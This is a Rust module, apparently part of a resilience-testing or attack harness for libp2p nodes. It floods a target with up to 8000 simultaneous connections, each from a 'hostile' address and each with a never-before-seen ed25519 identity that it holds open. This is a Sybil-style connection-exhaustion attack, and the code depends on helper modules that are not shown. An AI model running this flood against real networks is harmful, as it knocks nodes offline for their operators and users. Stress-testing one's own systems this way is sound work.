//! Ever new peers: each connection finishes its handshake with a key that was never seen, and stays.

use std::sync::Arc;

use libp2p::identity::Keypair;
use tokio::{sync::Semaphore, task::JoinSet};

use super::{Attacker, pace::Pace, wire::Wire};
use crate::attack::addresses;

/// Connections that it holds at once.
const AT_ONCE: usize = 8000;

pub async fn run(attacker: &Attacker, rate: f64) {
    let places = Arc::new(Semaphore::new(AT_ONCE));
    let mut peers = JoinSet::new();
    let mut pace = Pace::alone(rate);
    let mut index = 0;
    loop {
        for _ in 0..pace.due().await {
            let Ok(place) = places.clone().try_acquire_owned() else { break };
            attacker.tried(1);
            index += 1;
            let (target, from) = (attacker.target.clone(), addresses::hostile(index));
            peers.spawn(async move {
                let keypair = Keypair::generate_ed25519();
                if let Ok(wire) = Wire::dial(&target, from, &keypair).await {
                    wire.closed().await;
                }
                drop(place);
            });
        }
        while peers.try_join_next().is_some() {}
    }
}
